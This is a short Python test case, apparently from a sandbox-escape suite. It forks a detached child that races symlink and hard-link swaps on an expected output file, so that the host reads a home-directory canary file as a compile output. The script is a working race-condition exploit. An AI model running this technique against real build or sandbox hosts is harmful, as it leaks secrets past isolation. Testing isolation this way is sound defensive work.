# tries: to swap the expected output between a file and a link while the host reads it, from a child that stays behind
# escape: a secret comes back as an output
# through: compile leak
# control: none: outside nobody fetches outputs
import os
import time

from attack import note, targets

with open("plain", "w") as file:
    file.write("plain")
os.link("plain", "leak")
os.symlink(targets["canaries"]["home"], "other")
note("race")
if os.fork() == 0:
    os.setsid()
    for fd in (0, 1, 2):
        os.close(fd)
    end = time.monotonic() + 20
    while time.monotonic() < end:
        os.symlink(targets["canaries"]["home"], "swap")
        os.rename("swap", "leak")
        os.link("plain", "swap")
        os.rename("swap", "leak")
